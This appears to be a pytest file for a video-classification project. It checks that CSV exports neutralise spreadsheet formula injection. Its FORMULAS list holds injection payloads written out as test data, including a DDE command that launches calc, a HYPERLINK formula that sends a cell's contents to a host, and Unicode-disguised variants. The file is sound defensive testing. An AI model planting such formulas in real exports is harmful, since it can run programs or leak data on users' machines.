"""Tables that a spreadsheet opens without running anything in them."""

import csv
import runpy
from decimal import Decimal

import numpy as np
import pytest
import torch
from runs import ROOT

from mmtsf.evaluation import VideoAccuracy
from mmtsf.utils.tables import new_table, read_table, rounded

#: What a spreadsheet would calculate, fetch or start
FORMULAS = [
    '=1+1',
    '=HYPERLINK("http://h/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '-5',
    '@SUM(A1)',
    "=cmd|' /C calc'!A0",
    '\t=1+1',
    '\tplain',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\xa0=1+1',
    '\u3000=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1+1',
    '−5',
    "'=1+1",
    "''=1+1",
    *(f'{unseen}=1' for unseen in '\x00\x01\x7f\xad\u061c\u202a\u2066\u2061\u180e\ufe0f\ufff9\U000e0001\u3164\u115f'),
]
PLAIN = ['jumping = falling', 'a-b', 'x@y', "'quoted'", 'cat, wild', '"said"', '5', ' ', 'tai chi', '射箭', "'", "'a"]


@pytest.mark.parametrize('text', FORMULAS)
def test_a_text_that_would_be_a_formula_gets_an_apostrophe_and_reads_back(tmp_path, text):
    path = tmp_path / 'table.csv'
    with new_table(path, ['video', text]) as write:
        write([text, 1])
    with path.open(encoding='utf-8', newline='') as file:
        assert list(csv.reader(file)) == [['video', f"'{text}"], [f"'{text}", '1']]
    assert read_table(path) == [{'video': text, text: '1'}]


@pytest.mark.parametrize('text', PLAIN)
def test_other_texts_stay_as_they_are(tmp_path, text):
    with new_table(tmp_path / 'table.csv', ['video']) as write:
        write([text])
    with (tmp_path / 'table.csv').open(encoding='utf-8', newline='') as file:
        assert list(csv.reader(file))[1:] == [[text]]
    assert read_table(tmp_path / 'table.csv') == [{'video': text}]


def test_numbers_stay_numbers(tmp_path):
    numbers = [-1, -0.5, np.float32(-0.25), np.int64(-7), Decimal('-1.50'), rounded(-0.00004), rounded(-2), True, None]
    with new_table(tmp_path / 'table.csv', map(str, range(9))) as write:
        write(numbers)
    written = (tmp_path / 'table.csv').read_text().splitlines()[1]
    assert written == '-1,-0.5,-0.25,-7,-1.50,-0.0000,-2.0000,True,'


def test_names_of_files_that_are_no_text_are_written_as_their_bytes(tmp_path):
    with new_table(tmp_path / 'table.csv', ['video']) as write:
        write(['\udcff=a.mp4'])
    assert (tmp_path / 'table.csv').read_bytes().splitlines()[1].endswith(b'\xff=a.mp4')
    assert read_table(tmp_path / 'table.csv') == [{'video': '\udcff=a.mp4'}]


def test_an_empty_table_has_no_rows(tmp_path):
    (tmp_path / 'table.csv').touch()
    assert read_table(tmp_path / 'table.csv') == []


def test_results_of_a_test_hold_no_formulas_and_their_page_shows_the_names(tmp_path, monkeypatch):
    classes = ['=1+1', '-jump', '@home', 'plain']
    metric = VideoAccuracy(out_dir=str(tmp_path))
    metric.dataset_meta = dict(classes=classes)
    for number, label in enumerate([0, 1, 2, 3, 1]):
        scores = torch.tensor([-1.0, -2.0, -3.0, -4.0])
        sample = dict(pred_scores=dict(item=scores), gt_labels=dict(item=torch.tensor([label])), broken=[])
        metric.process(None, [sample | dict(filename=f'+{number}.mp4')])
    metric.evaluate(5)
    for name in ('predictions.csv', 'per_class.csv'):
        with (tmp_path / name).open(encoding='utf-8', newline='') as file:
            rows = list(csv.DictReader(file))
        assert {row['class'] for row in rows} == {"'=1+1", "'-jump", "'@home", 'plain'}
    assert [row['video'] for row in read_table(tmp_path / 'predictions.csv')] == [f'+{n}.mp4' for n in range(5)]
    assert (tmp_path / 'predictions.csv').read_text().splitlines()[1] == "'+0.mp4,'=1+1,'=1+1,-1.0000,-1.0000"
    monkeypatch.setattr('sys.argv', ['analyze_results.py', str(tmp_path), str(tmp_path / 'page.html')])
    with pytest.raises(SystemExit) as left:
        runpy.run_path(str(ROOT / 'tools/analysis/analyze_results.py'), run_name='__main__')
    assert left.value.code is None
    page = (tmp_path / 'page.html').read_text()
    assert '<td>-jump<td' in page
    assert '>=1+1<' in page.replace('&gt;', '>')
    assert "'=1+1" not in page
    assert '&#39;=1+1' not in page
